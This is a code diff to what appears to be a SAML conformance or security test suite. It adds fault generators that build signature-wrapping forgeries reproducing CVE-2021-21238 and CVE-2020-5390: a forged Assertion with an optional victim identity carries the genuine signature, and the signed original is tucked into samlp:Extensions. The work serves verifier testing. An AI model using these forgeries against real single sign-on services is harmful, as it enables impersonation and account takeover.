@@ -94,15 +94,13 @@ def _ref_to_response(root: etree._Element, ctx: FaultContext) -> None:
     from ..signing import sign
 
     a = _assertion(root)
-    own = _sig(a)
-    resp_sig = sign(root, root, ctx.signing.key or ctx.idp.key)
-    # move the Response's signature (Reference "#<response ID>") into the Assertion
+    _drop_sig(a)  # first, so that the Response's digest covers the Assertion as it is sent
+    resp_sig = sign(root, root, ctx.signing.key or ctx.idp.key, algorithm=ctx.signing.algorithm,
+                    digest=ctx.signing.digest)
+    # move the Response's signature (Reference "#<response ID>") into the Assertion, after its Issuer:
+    # the enveloped transform still removes it there, so the signature over the Response stays valid
     root.remove(resp_sig)
-    if own is not None:
-        own.addprevious(resp_sig)
-        a.remove(own)
-    else:
-        a.find(q(SAML, "Issuer")).addnext(resp_sig)
+    a.find(q(SAML, "Issuer")).addnext(resp_sig)
 
 
 register(Fault("sig-reference-response",
@@ -257,3 +255,68 @@ register(Fault("sig-digest-mismatch", "After signing, the first-name AttributeVa
                "SignedInfo and its SignatureValue intact, the Reference digest no longer matches",
                ("SIG-07", "GHSL 2025: digest and signature must both verify and be linked"),
                signing=_assertion_signed(), signed=_digest_mismatch))
+
+
+W21238 = "urn:samlconf:cve-2021-21238"
+
+
+@register_factory("sig-cve-2021-21238",
+                  "CVE-2021-21238 shape: the signed Assertion A (Signature moved out) parked in samlp:Extensions; a "
+                  "forged copy E (new ID; victim optional) carries A's genuine Signature (Reference #A) FIRST, inside "
+                  "a schema-invalid wrapper element (wrapper=true) or bare (wrapper=false), then its own Signature: "
+                  "a copy of A's with the Reference URI retargeted to #E (digest and value untouched)",
+                  ("SIG-17", "CVE-2021-21238"), victim=None, wrapper=True)
+def _sig_21238(victim: str | None, wrapper: bool) -> Fault:
+    # A verifier that checks the FIRST ds:Signature under E (xmlsec1 --node-id E) finds the genuine one,
+    # whose Reference resolves to A in Extensions: the digest holds. A reader that keeps the LAST
+    # Signature child (pysaml2's object model) sees one enveloped Signature naming E (the 5.0.0 URI
+    # check holds). pysaml2 6.5.0 added schema validation, which the wrapper fails; without the wrapper
+    # the re-serialised object (one Signature) stays schema-valid (NOTES-twins section 2).
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        evil, genuine = _forged_carrier(root, victim)
+        retargeted = copy.deepcopy(genuine)
+        _iter_tag(retargeted, q(DS, "Reference"))[0].set("URI", "#" + evil.get("ID"))
+        iss = evil.find(q(SAML, "Issuer"))
+        if wrapper:
+            w = etree.Element(f"{{{W21238}}}Wrapper", nsmap={"w": W21238})
+            w.append(genuine)
+            iss.addnext(w)
+            w.addnext(retargeted)
+        else:
+            iss.addnext(genuine)
+            genuine.addnext(retargeted)
+
+    return Fault("", "", signing=_assertion_signed(), signed=signed)
+
+
+def _forged_carrier(root: etree._Element, victim: str | None) -> tuple[etree._Element, etree._Element]:
+    """The signed Assertion A, its Signature taken out, parked in samlp:Extensions (schema-valid
+    ##other, where a reader of the Response's Assertion does not look); in its place a copy E with a
+    new ID (victim optional), unsigned. Returns (E, A's genuine Signature, detached)."""
+    a = _assertion(root)
+    genuine = _sig(a)
+    if genuine is None:
+        raise ValueError("the Assertion is not signed")
+    a.remove(genuine)
+    evil = copy.deepcopy(a)
+    evil.set("ID", new_id())
+    _victimize(evil, victim)
+    a.addprevious(evil)
+    root.remove(a)
+    ext = etree.Element(q(SAMLP, "Extensions"))
+    ext.append(a)
+    root.find(q(SAML, "Issuer")).addnext(ext)
+    return evil, genuine
+
+
+@register_factory("sig-reference-elsewhere",
+                  "The Response's Assertion E (new ID; victim optional) carries, as its own Signature, the genuine "
+                  "Signature of the signed Assertion A, whose Reference still names A; A (Signature moved out) "
+                  "parked in samlp:Extensions",
+                  ("SIG-11", "CVE-2020-5390", "SAML Core 5.4.2"), victim=None)
+def _sig_elsewhere(victim: str | None) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        evil, genuine = _forged_carrier(root, victim)
+        evil.find(q(SAML, "Issuer")).addnext(genuine)
+
+    return Fault("", "", signing=_assertion_signed(), signed=signed)
